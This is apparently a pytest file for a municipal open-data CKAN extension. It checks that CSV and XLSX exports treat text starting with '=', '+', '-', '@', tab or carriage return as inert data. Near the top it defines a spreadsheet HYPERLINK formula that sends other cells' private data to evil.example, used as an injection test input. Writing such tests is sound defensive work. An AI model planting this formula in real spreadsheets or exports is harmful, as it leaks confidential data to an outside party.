"""The suite's one export writer (ckanext.municipal_opendata.exports): a
text cell is data, never a formula, in CSV and in XLSX; numbers stay
numbers. Pure unit tests, no database."""
import csv
import io

import openpyxl
import pytest

from ckanext.municipal_opendata import exports

#: A dataset title that, as a live formula in the secretariat's sheet,
#: sends two other cells (another municipality's private candidate and its
#: score) to evil.example when clicked.
PAYLOAD = 'HYPERLINK("https://evil.example/?x="&C3&"|"&H3,"Open")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_csv_text_starting_like_a_formula_is_prefixed(start):
    text = exports.csv_text([start + "header"], [[start + PAYLOAD]])
    assert read_csv(text) == [["'" + start + "header"],
                              ["'" + start + PAYLOAD]]


def test_csv_numbers_stay_numbers_and_plain_text_is_unchanged():
    text = exports.csv_text(["a", "b", "c", "d", "e"],
                            [[-3, -2.5, 0, "Leuven", None]])
    assert read_csv(text)[1] == ["-3", "-2.5", "0", "Leuven", ""]


def test_csv_text_that_looks_like_a_negative_number_is_text():
    # text is prefixed by what it starts with, not by what it looks like
    assert exports.csv_cell("-3") == "'-3"
    assert exports.csv_cell(-3) == -3
    assert exports.csv_cell(True) == "True"
    assert exports.csv_cell("a=b") == "a=b"


def cells(data, sheet=None):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in (book[sheet] if sheet else book.active)]


@pytest.mark.parametrize("start", STARTS)
def test_xlsx_text_is_a_string_cell_whatever_it_starts_with(start):
    data = exports.xlsx_bytes([exports.Sheet(
        "Ranking", [start + "header"], [[start + PAYLOAD, -1, 2.5]])])
    (header, *_), (title, negative, number) = cells(data)
    assert (header.data_type, header.value) == ("s", start + "header")
    assert (title.data_type, title.value) == ("s", start + PAYLOAD)
    assert (negative.data_type, negative.value) == ("n", -1)
    assert (number.data_type, number.value) == ("n", 2.5)


def test_xlsx_sheets_and_control_characters():
    data = exports.xlsx_bytes([
        exports.Sheet("Coverage", ["x"], [["a\x0bb\x00c", None]]),
        exports.Sheet("Joint publication", ["y"], [])])
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Coverage", "Joint publication"]
    row = [c.value for c in book["Coverage"][2]]
    assert row[0] == "abc"
    assert book["Coverage"]["A1"].font.bold
